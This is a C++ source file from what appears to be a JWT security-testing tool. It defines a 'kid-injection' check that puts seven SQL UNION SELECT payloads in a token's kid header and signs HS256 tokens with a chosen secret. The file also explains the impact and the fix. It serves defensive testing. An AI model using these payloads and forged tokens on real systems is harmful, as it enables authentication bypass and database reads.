#include <array>

#include "jwtkeep/probe/compact.hpp"
#include "jwtkeep/probe/forgeries/rows.hpp"

namespace jwtkeep::probe {
namespace {

constexpr std::array<std::string_view, 1> kKidInjectionReferences{"RFC 8725 section 3.10"};

constexpr std::string_view kSecret = "jwtkeep-probe";

/// The key's row becomes a text of ours; in one column, in two, in a query with double quotes, as a number.
constexpr std::array<std::string_view, 7> kKids{
    "x' UNION SELECT 'jwtkeep-probe' -- ",
    "x' UNION SELECT 'jwtkeep-probe'; -- ",
    "x' UNION SELECT 'jwtkeep-probe', 'jwtkeep-probe' -- ",
    "x\" UNION SELECT 'jwtkeep-probe' -- ",
    "x') UNION SELECT 'jwtkeep-probe' -- ",
    "0 UNION SELECT 'jwtkeep-probe' -- ",
    "x' UNION SELECT 'jwtkeep-probe' FROM dual -- ",
};

Attempts make_kid_injection(const Material& material) {
  Attempts attempts;
  for (const auto kid : kKids) {
    const auto header = header_with(material.good, {{"alg", "HS256"}, {"kid", kid}});
    attempts.list.push_back(
        {"kid " + base::quote_json(kid), hmac_token(material.good, jose::Alg::HS256, header, base::as_bytes(kSecret))});
  }
  return attempts;
}

}  // namespace

const Forgery kKidInjection{
    .id = "kid-injection",
    .title = "SQL in kid",
    .severity = Severity::critical,
    .judging = Judging::answer,
    .cwe = "CWE-89",
    .references = kKidInjectionReferences,
    .means =
        "anybody has the database answer with a key of their own choice, makes tokens with any claims, and reads "
        "what that query can read",
    .mend = "give the kid to the database as a bound parameter, and take only the characters that your kids have",
    .make = make_kid_injection,
};

}  // namespace jwtkeep::probe
